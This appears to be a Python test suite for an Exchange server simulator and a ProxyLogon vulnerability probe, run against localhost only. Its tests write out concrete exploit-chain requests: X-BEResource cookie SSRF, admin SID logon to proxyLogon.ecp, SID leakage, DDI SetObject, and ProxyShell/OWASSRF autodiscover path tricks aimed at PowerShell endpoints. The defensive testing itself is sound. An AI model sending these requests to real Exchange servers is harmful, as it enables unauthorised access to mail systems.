#!/usr/bin/env python3
"""Self-test of the Exchange simulator and auto/probe.  Plain Python, no pytest.

    python3 tests/sim/test_sim.py

Starts exchange_sim.py on a free port, sends it the published probes and
some ordinary traffic, and checks the answers and the --record file.
"""

import base64
import hashlib
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
SIM = os.path.join(HERE, "exchange_sim.py")
PROBE = os.path.join(ROOT, "auto", "probe")

sys.dont_write_bytecode = True      # keep __pycache__ out of the tree
sys.path.insert(0, HERE)
import exchange_sim  # noqa: E402


class Sim:
    """The simulator in a subprocess, and a count of what was sent to it."""

    def __init__(self, record_path):
        self.proc = subprocess.Popen(
            [sys.executable, SIM, "--listen", "127.0.0.1:0",
             "--record", record_path],
            stdout=subprocess.PIPE, text=True)
        line = self.proc.stdout.readline().strip()
        if not line.startswith("exchange_sim listening on "):
            raise RuntimeError(f"simulator did not start: {line!r}")
        self.port = int(line.rsplit(":", 1)[1])
        self.record_path = record_path
        self.sent = 0
        self.wait_healthy()

    def wait_healthy(self, seconds=10):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                status, _, body = self.request("GET", "/__sim/health",
                                               counted=False)
                if status == 200 and body == b"ok":
                    return
            except OSError:
                pass
            time.sleep(0.05)
        raise RuntimeError("simulator is not healthy")

    def request(self, method, target, headers=None, body=None, counted=True):
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            conn.request(method, target, body=body, headers=headers or {})
            response = conn.getresponse()
            data = response.read()
            if counted:
                self.sent += 1
            return response.status, response, data
        finally:
            conn.close()

    def raw(self, data):
        """Send raw bytes, return everything the simulator answers."""
        with socket.create_connection(("127.0.0.1", self.port),
                                      timeout=10) as sock:
            sock.sendall(data)
            chunks = []
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    return b"".join(chunks)
                chunks.append(chunk)

    def records(self):
        with open(self.record_path, encoding="utf-8") as f:
            return [json.loads(line) for line in f]

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        try:
            return self.proc.wait(timeout=10)
        finally:
            self.proc.stdout.close()


# ---------------------------------------------------------------------------
# Pure functions, no server.

def test_backend_cookie_shapes(sim):
    cases = {
        "localhost~1942062522": ("localhost", ""),
        "Admin@ex01.contoso.local:444/mapi/emsmdb?MailboxId=x@y&a=~1942062522":
            ("ex01.contoso.local", "/mapi/emsmdb"),
        "[x]@h:444/path#~1": ("h", "/path"),
        "a]@h:444/path?x#~7": ("h", "/path"),
        "@h:444/path?#~7": ("h", "/path"),
        "h/path?&a~1": ("h", "/path"),
        "h#~1": ("h", ""),
        "localhost?x=~4711": ("localhost", ""),
        "EX01.contoso.local~1942062522": ("EX01.contoso.local", ""),
        "localhost/owa/auth/logon.aspx?~3": ("localhost", "/owa/auth/logon.aspx"),
    }
    for value, expected in cases.items():
        got = exchange_sim.parse_backend_cookie(value)
        assert got == expected, f"{value!r}: {got!r} != {expected!r}"
    for value in ("localhost", "localhost~abc", "~1", "h~99999999999"):
        assert exchange_sim.parse_backend_cookie(value) is None, value


def test_cookie_parsing_like_aspnet(sim):
    pairs = exchange_sim.parse_cookies(
        ["a=1, X-BEResource=evil~1", " x-beresource = localhost~2 ;b"])
    assert exchange_sim.cookie_get(pairs, "a") == "1, X-BEResource=evil~1"
    assert exchange_sim.cookie_get(pairs, "X-BERESOURCE") == "localhost~2"
    assert exchange_sim.cookie_get(pairs, "b") == ""
    assert exchange_sim.cookie_get(pairs, "c") is None


def test_iis_path(sim):
    assert exchange_sim.iis_path("/ecp/%79.j%73?x") == "/ecp/y.js"
    assert exchange_sim.iis_path("/owa/..\\ecp\\y.js") == "/ecp/y.js"
    assert exchange_sim.iis_path("/a/./b/../c/") == "/a/c/"
    assert exchange_sim.iis_path("http://h/ecp/x.ico") == "/ecp/x.ico"


# ---------------------------------------------------------------------------
# auto/probe.

def run_probe(url):
    return subprocess.run([sys.executable, PROBE, url], capture_output=True,
                          text=True, timeout=60)


def test_probe_finds_simulator_vulnerable(sim):
    result = run_probe(f"http://127.0.0.1:{sim.port}")
    sim.sent += 2
    assert result.returncode == 2, (result.returncode, result.stdout,
                                    result.stderr)
    lines = result.stdout.strip().splitlines()
    assert len(lines) == 3, lines
    assert "GET /owa/auth/x.js" in lines[0] and "HTTP 500" in lines[0]
    assert "X-CalculatedBETarget: localhost" in lines[1]
    assert lines[2] == ("VULNERABLE to CVE-2021-26855 (ProxyLogon SSRF): "
                        "X-CalculatedBETarget names localhost")


def closing_server():
    """A listener that, like nginx's 444, closes every connection unanswered."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve():
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    conn.recv(65536)
                except OSError:
                    pass

    threading.Thread(target=serve, daemon=True).start()
    return listener


def test_probe_refused_and_unreachable(sim):
    listener = closing_server()
    port = listener.getsockname()[1]
    try:
        result = run_probe(f"http://127.0.0.1:{port}")
    finally:
        listener.close()
    assert result.returncode == 0, (result.returncode, result.stdout)
    assert result.stdout.count("connection closed without response") == 2
    assert result.stdout.strip().endswith(
        "not vulnerable to CVE-2021-26855: the probe was refused")

    result = run_probe(f"http://127.0.0.1:{port}")     # nothing listens now
    assert result.returncode == 1, (result.returncode, result.stdout)


# ---------------------------------------------------------------------------
# ProxyLogon chain through X-BEResource.

def test_proxylogon_ecp_returns_241(sim):
    status, response, _ = sim.request("GET", "/ecp/x.js", {
        "Cookie": "X-BEResource=Admin@ex01.contoso.local:444/ecp/"
                  "proxyLogon.ecp?a=~1942062522",
        "msExchLogonMailbox": exchange_sim.ADMIN_SID,
    }, body=b"<r at=\"Negotiate\" ln=\"admin\"></r>")
    assert status == 241, status
    assert response.getheader("X-CalculatedBETarget") == "ex01.contoso.local"
    cookies = response.headers.get_all("Set-Cookie")
    assert any(c.startswith("ASP.NET_SessionId=") for c in cookies), cookies
    assert any(c.startswith("msExchEcpCanary=") for c in cookies), cookies


def test_autodiscover_and_sid_leak(sim):
    status, response, body = sim.request("POST", "/ecp/y.js", {
        "Cookie": "X-BEResource=ex01.contoso.local/autodiscover/"
                  "autodiscover.xml?a=~1942062522"}, body=b"<x/>")
    assert status == 200 and b"<LegacyDN>/o=First Organization" in body
    assert b"<Server>" in body

    status, _, body = sim.request("POST", "/ecp/y.js", {
        "cookie": "x-beresource=Admin@ex01:444/mapi/emsmdb?MailboxId=g@d"
                  "&a=~1942062522",
        "Content-Type": "application/mapi-http", "X-Requesttype": "Connect"},
        body=b"legacydn")
    assert status == 200, status
    assert b"with SID S-1-5-21-1234567890-1234567890-1234567890-500 and " \
           b"MasterAccountSid" in body


def test_beresource_needs_static_resource(sim):
    status, response, body = sim.request("GET", "/ecp/default.aspx", {
        "Cookie": "X-BEResource=localhost~1942062522"})
    assert status == 200 and response.getheader("X-CalculatedBETarget") is None
    assert json.loads(body)["path"] == "/ecp/default.aspx"


def test_ddi_setobject(sim):
    status, _, body = sim.request(
        "POST", "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
        {"Content-Type": "application/json"}, body=b"{}")
    assert status == 200
    assert json.loads(body)["d"]["__type"] == "JsonDictionaryOfanyType:#Ecp"


# ---------------------------------------------------------------------------
# ProxyShell, ProxyNotShell, OWASSRF.

def test_proxyshell(sim):
    status, response, body = sim.request(
        "GET", "/autodiscover/autodiscover.json?@x.com/mapi/nspi/?"
               "&Email=autodiscover/autodiscover.json%3F@x.com")
    assert status == 200 and b"Exchange MAPI/HTTP Connectivity Endpoint" in body
    assert response.getheader("X-CalculatedBETarget") == exchange_sim.BE_SERVER

    status, _, body = sim.request(
        "POST", "/Autodiscover/autodiscover.json?@x.com/%50owershell/"
                "?X-Rps-CAT=abc&Email=autodiscover/autodiscover.json%3F@x.com",
        body=b"<s/>")
    assert status == 200 and b"<rps vulnerable/>" in body

    status, _, body = sim.request(
        "GET", "/autodiscover/admin@localhost//powershell/autodiscover.json?x=a",
        {"Cookie": "Email=autodiscover/admin@localhost"})
    assert b"<rps vulnerable/>" in body

    status, _, body = sim.request("POST", "/owa/mb%40contoso.local/powershell",
                                  body=b"x")
    assert b"<rps vulnerable/>" in body


def test_legitimate_explicit_logon_is_echoed(sim):
    for target in (
            "/autodiscover/autodiscover.json?Email=u@d&Protocol=ActiveSync"
            "&RedirectCount=3",
            "/autodiscover/autodiscover.json/v1.0/u@d?Protocol=EWS",
            "/owa/shared@d/"):
        status, response, body = sim.request("GET", target)
        assert status == 200, (target, status)
        assert response.getheader("X-CalculatedBETarget") is None, target
        assert json.loads(body)["path"] == target


# ---------------------------------------------------------------------------
# Ordinary HTTP.

def test_owa_get_is_echoed(sim):
    status, response, body = sim.request("GET", "/owa/", {"X-Test": "1"})
    assert status == 200
    assert response.getheader("Content-Type") == "application/json"
    assert response.getheader("X-FEServer") == "EXSIM-FE01"
    assert response.getheader("X-Exchange-Sim") == "1"
    report = json.loads(body)
    assert report["method"] == "GET" and report["path"] == "/owa/"
    assert ["X-Test", "1"] in report["headers"]
    assert report["body_length"] == 0


def test_chunked_body(sim):
    payload = b"hello chunked world" * 100
    chunks = b"".join(b"%x;ext=1\r\n%s\r\n" % (len(part), part)
                      for part in (payload[:7], payload[7:1000],
                                   payload[1000:]))
    request = (b"POST /EWS/Exchange.asmx HTTP/1.1\r\nHost: x\r\n"
               b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
               + chunks + b"0\r\nX-Trailer: t\r\n\r\n")
    answer = sim.raw(request)
    sim.sent += 1
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200"), head
    report = json.loads(body)
    assert report["body_length"] == len(payload), report
    assert report["body_sha256"] == hashlib.sha256(payload).hexdigest()

    record = sim.records()[-1]
    assert record["target"] == "/EWS/Exchange.asmx"
    assert base64.b64decode(record["body_b64"]) == payload


def test_keep_alive(sim):
    conn = http.client.HTTPConnection("127.0.0.1", sim.port, timeout=10)
    try:
        for index in range(3):
            conn.request("POST", f"/mapi/emsmdb/?n={index}",
                         body=b"z" * (index * 1000),
                         headers={"Content-Type": "application/mapi-http"})
            response = conn.getresponse()
            report = json.loads(response.read())
            sim.sent += 1
            assert report["body_length"] == index * 1000
            assert response.getheader("Content-Length") is not None
    finally:
        conn.close()


def test_garbage_does_not_crash(sim):
    for garbage in (b"\x00\x01 garbage\r\n\r\n", b"GET / HTTP/1.1x\r\n\r\n",
                    b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 200 + b"\r\n"):
        answer = sim.raw(garbage)
        sim.sent += 1                               # recorded as malformed
        assert answer.startswith(b"HTTP/1.1 4"), answer[:40]
        assert b"X-FEServer: EXSIM-FE01" in answer
    answer = sim.raw(b"POST /x HTTP/1.1\r\nHost: x\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\nzz\r\n")
    sim.sent += 1
    assert answer.startswith(b"HTTP/1.1 400"), answer[:40]
    status, _, _ = sim.request("GET", "/__sim/health", counted=False)
    assert status == 200


def test_record_file(sim):
    records = sim.records()
    assert len(records) == sim.sent, (len(records), sim.sent)
    assert not any(r["target"] == "/__sim/health" for r in records)
    probes = [r for r in records if r["target"] in ("/owa/auth/x.js",
                                                    "/ecp/y.js")]
    assert len(probes) >= 2
    assert all(isinstance(r["headers"], list) for r in records)


TESTS = [
    test_backend_cookie_shapes,
    test_cookie_parsing_like_aspnet,
    test_iis_path,
    test_probe_finds_simulator_vulnerable,
    test_probe_refused_and_unreachable,
    test_proxylogon_ecp_returns_241,
    test_autodiscover_and_sid_leak,
    test_beresource_needs_static_resource,
    test_ddi_setobject,
    test_proxyshell,
    test_legitimate_explicit_logon_is_echoed,
    test_owa_get_is_echoed,
    test_chunked_body,
    test_keep_alive,
    test_garbage_does_not_crash,
    test_record_file,           # last: counts every request sent above
]


def main():
    passed = failed = 0
    with tempfile.TemporaryDirectory() as tmp:
        sim = Sim(os.path.join(tmp, "record.jsonl"))
        try:
            for test in TESTS:
                try:
                    test(sim)
                except Exception as exc:
                    failed += 1
                    print(f"FAIL {test.__name__}: {exc!r}")
                else:
                    passed += 1
                    print(f"ok   {test.__name__}")
        finally:
            status = sim.stop()
        if status == 0:
            passed += 1
            print("ok   simulator exits 0 on SIGTERM")
        else:
            failed += 1
            print(f"FAIL simulator exit status on SIGTERM: {status}")
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
